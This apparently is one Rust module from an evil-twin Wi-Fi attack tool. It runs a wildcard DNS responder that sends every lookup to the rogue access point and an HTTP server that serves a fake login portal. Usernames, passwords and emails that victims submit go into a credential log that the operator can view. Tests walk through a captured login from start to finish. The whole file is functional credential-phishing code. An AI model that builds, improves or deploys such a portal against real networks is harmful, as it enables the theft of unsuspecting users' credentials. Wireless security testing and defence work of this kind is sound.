//! Evil-twin portal server
//!
//! Owns the wildcard DNS responder, the HTTP responder, and the credential
//! log. Everything runs on the caller's execution context: the caller keeps
//! invoking `tick()`, and each tick performs one bounded unit of DNS or HTTP
//! work. There is no background task and no locking; only one logical
//! operation runs at a time.

mod dns;
mod http;

pub use dns::DnsResponder;
pub use http::HttpResponder;

use crate::config::{CaptureConfig, ServerConfig};
use crate::creds::{format_uptime, CredentialLog};
use anyhow::{Context, Result};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

/// Upper bound on how long one tick blocks when no client traffic arrives.
const TICK_BUDGET: Duration = Duration::from_millis(50);

/// Per-connection ceiling so one slow client can't wedge the loop.
const CONNECTION_TIMEOUT: Duration = Duration::from_secs(5);

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PortalServerState {
    Stopped,
    Running,
}

/// Outcome of a start request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StartOutcome {
    Started,
    /// Not an error; reported so the operator knows nothing changed.
    AlreadyRunning,
}

struct Active {
    dns: DnsResponder,
    http: HttpResponder,
    html: String,
    ssid: String,
    last_activity: Instant,
}

pub struct PortalServer {
    cfg: ServerConfig,
    creds: CredentialLog,
    /// Uptime reference for capture timestamps.
    clock: Instant,
    active: Option<Active>,
}

impl PortalServer {
    pub fn new(cfg: ServerConfig, capture: &CaptureConfig) -> Self {
        Self {
            cfg,
            creds: CredentialLog::with_capacity(capture.credential_capacity),
            clock: Instant::now(),
            active: None,
        }
    }

    /// Bind both responders and go Running. Starting while already running
    /// changes nothing and says so.
    pub async fn start(&mut self, ssid: &str, html: String) -> Result<StartOutcome> {
        if self.active.is_some() {
            tracing::warn!("Portal server is already running");
            return Ok(StartOutcome::AlreadyRunning);
        }

        let dns = DnsResponder::bind(&self.cfg.dns_bind, self.cfg.ap_address)
            .await
            .with_context(|| {
                format!(
                    "failed to bind DNS responder on {} (ports below 1024 need root)",
                    self.cfg.dns_bind
                )
            })?;
        let http = HttpResponder::bind(&self.cfg.http_bind)
            .await
            .with_context(|| format!("failed to bind HTTP responder on {}", self.cfg.http_bind))?;

        tracing::info!("Portal server running for '{}'", ssid);

        self.active = Some(Active {
            dns,
            http,
            html,
            ssid: ssid.to_string(),
            last_activity: Instant::now(),
        });

        Ok(StartOutcome::Started)
    }

    /// Drop both responders; their sockets close with them. Captured
    /// credentials survive until explicitly cleared.
    pub fn stop(&mut self) -> bool {
        match self.active.take() {
            Some(active) => {
                tracing::info!("Portal server for '{}' stopped", active.ssid);
                true
            }
            None => false,
        }
    }

    pub fn state(&self) -> PortalServerState {
        if self.active.is_some() {
            PortalServerState::Running
        } else {
            PortalServerState::Stopped
        }
    }

    pub fn is_running(&self) -> bool {
        self.active.is_some()
    }

    /// Actual HTTP bind address while running (useful when bound to port 0).
    pub fn http_addr(&self) -> Option<SocketAddr> {
        self.active.as_ref().and_then(|a| a.http.local_addr().ok())
    }

    /// Actual DNS bind address while running.
    pub fn dns_addr(&self) -> Option<SocketAddr> {
        self.active.as_ref().and_then(|a| a.dns.local_addr().ok())
    }

    pub fn credentials(&self) -> &CredentialLog {
        &self.creds
    }

    pub fn clear_credentials(&mut self) {
        self.creds.clear();
    }

    /// One bounded unit of work: answer one DNS query, or serve one HTTP
    /// connection, or give up after the tick budget. A no-op while stopped.
    pub async fn tick(&mut self) -> Result<()> {
        enum Work {
            Dns(std::io::Result<()>),
            Http(std::io::Result<(tokio::net::TcpStream, SocketAddr)>),
            Idle,
        }

        let Some(active) = self.active.as_ref() else {
            return Ok(());
        };

        let work = tokio::select! {
            r = active.dns.serve_once() => Work::Dns(r),
            r = active.http.accept() => Work::Http(r),
            _ = tokio::time::sleep(TICK_BUDGET) => Work::Idle,
        };

        match work {
            Work::Dns(result) => {
                if let Err(e) = result {
                    tracing::debug!("DNS tick error: {}", e);
                }
                self.touch();
            }
            Work::Http(Ok((stream, peer))) => {
                let timestamp = format_uptime(self.clock.elapsed());

                // The selected page is borrowed for this one request cycle;
                // nothing here mutates it.
                if let Some(active) = self.active.as_ref() {
                    let served = tokio::time::timeout(
                        CONNECTION_TIMEOUT,
                        http::handle_connection(stream, peer, &active.html, &mut self.creds, timestamp),
                    )
                    .await;

                    match served {
                        Ok(Err(e)) => tracing::debug!("HTTP tick error: {}", e),
                        Err(_) => tracing::debug!("HTTP connection from {} timed out", peer),
                        Ok(Ok(())) => {}
                    }
                }
                self.touch();
            }
            Work::Http(Err(e)) => {
                tracing::debug!("Accept error: {}", e);
            }
            Work::Idle => {
                if self.idle_expired() {
                    tracing::info!(
                        "No portal activity for {}s, auto-stopping",
                        self.cfg.idle_stop_secs
                    );
                    self.stop();
                }
            }
        }

        Ok(())
    }

    fn touch(&mut self) {
        if let Some(active) = self.active.as_mut() {
            active.last_activity = Instant::now();
        }
    }

    fn idle_expired(&self) -> bool {
        if self.cfg.idle_stop_secs == 0 {
            return false;
        }
        self.active
            .as_ref()
            .map(|a| a.last_activity.elapsed() >= Duration::from_secs(self.cfg.idle_stop_secs))
            .unwrap_or(false)
    }

    /// Operator-facing status line.
    pub fn status(&self) -> String {
        match self.state() {
            PortalServerState::Running => {
                let ssid = self
                    .active
                    .as_ref()
                    .map(|a| a.ssid.as_str())
                    .unwrap_or_default();
                format!(
                    "running (ssid '{}', {} credential(s) captured, uptime {})",
                    ssid,
                    self.creds.len(),
                    format_uptime(self.clock.elapsed())
                )
            }
            PortalServerState::Stopped => {
                format!("stopped ({} credential(s) captured)", self.creds.len())
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::templates;
    use std::net::Ipv4Addr;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use tokio::net::{TcpStream, UdpSocket};

    fn test_config(idle_stop_secs: u64) -> ServerConfig {
        ServerConfig {
            dns_bind: "127.0.0.1:0".to_string(),
            http_bind: "127.0.0.1:0".to_string(),
            ap_address: Ipv4Addr::new(192, 168, 4, 1),
            idle_stop_secs,
        }
    }

    fn capture_config(capacity: usize) -> CaptureConfig {
        CaptureConfig {
            credential_capacity: capacity,
        }
    }

    async fn started_server() -> PortalServer {
        let mut server = PortalServer::new(test_config(0), &capture_config(50));
        let outcome = server
            .start("TestNet", templates::GENERIC_PORTAL.to_string())
            .await
            .unwrap();
        assert_eq!(outcome, StartOutcome::Started);
        server
    }

    #[tokio::test]
    async fn test_start_is_idempotent_and_stop_reports() {
        let mut server = started_server().await;
        assert_eq!(server.state(), PortalServerState::Running);

        let outcome = server.start("Other", String::new()).await.unwrap();
        assert_eq!(outcome, StartOutcome::AlreadyRunning);
        // The original SSID is still the one being served.
        assert_eq!(server.active.as_ref().unwrap().ssid, "TestNet");

        assert!(server.stop());
        assert_eq!(server.state(), PortalServerState::Stopped);
        assert!(!server.stop());
    }

    #[tokio::test]
    async fn test_tick_while_stopped_is_noop() {
        let mut server = PortalServer::new(test_config(0), &capture_config(50));
        server.tick().await.unwrap();
        assert_eq!(server.state(), PortalServerState::Stopped);
    }

    #[tokio::test]
    async fn test_login_submission_end_to_end() {
        let mut server = started_server().await;
        let addr = server.http_addr().unwrap();

        let client = async {
            let mut stream = TcpStream::connect(addr).await.unwrap();
            let body = "username=alice&password=hunter2";
            let request = format!(
                "POST /login HTTP/1.1\r\nHost: portal\r\nContent-Length: {}\r\n\r\n{}",
                body.len(),
                body
            );
            stream.write_all(request.as_bytes()).await.unwrap();
            let mut response = String::new();
            stream.read_to_string(&mut response).await.unwrap();
            response
        };

        let serve = async {
            for _ in 0..20 {
                server.tick().await.unwrap();
            }
        };

        let (response, _) = tokio::join!(client, serve);

        assert!(response.starts_with("HTTP/1.1 200"));
        assert!(response.contains("Connected!"));
        assert_eq!(server.credentials().len(), 1);
        let cred = &server.credentials().entries()[0];
        assert_eq!(cred.username.as_deref(), Some("alice"));
        assert_eq!(cred.password.as_deref(), Some("hunter2"));
        assert!(cred.email.is_none());
    }

    #[tokio::test]
    async fn test_dns_wildcard_through_tick() {
        let mut server = started_server().await;
        let dns_addr = server
            .active
            .as_ref()
            .unwrap()
            .dns
            .local_addr()
            .unwrap();

        let client = UdpSocket::bind("127.0.0.1:0").await.unwrap();

        for name in ["example.com", "sub.random.test", "a"] {
            let query = encode_query(name);
            client.send_to(&query, dns_addr).await.unwrap();

            let exchange = async {
                let mut buf = [0u8; 512];
                let (len, _) = client.recv_from(&mut buf).await.unwrap();
                buf[..len].to_vec()
            };
            let serve = async {
                for _ in 0..10 {
                    server.tick().await.unwrap();
                }
            };
            let (resp, _) = tokio::join!(exchange, serve);

            assert_eq!(&resp[resp.len() - 4..], &[192, 168, 4, 1]);
        }
    }

    #[tokio::test]
    async fn test_idle_auto_stop() {
        let mut server = PortalServer::new(test_config(1), &capture_config(50));
        server
            .start("IdleNet", templates::GENERIC_PORTAL.to_string())
            .await
            .unwrap();

        tokio::time::sleep(Duration::from_millis(1100)).await;
        server.tick().await.unwrap();

        assert_eq!(server.state(), PortalServerState::Stopped);
    }

    fn encode_query(name: &str) -> Vec<u8> {
        let mut q = vec![0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0, 0, 0, 0, 0, 0];
        for label in name.split('.') {
            q.push(label.len() as u8);
            q.extend_from_slice(label.as_bytes());
        }
        q.push(0);
        q.extend_from_slice(&[0x00, 0x01, 0x00, 0x01]);
        q
    }
}
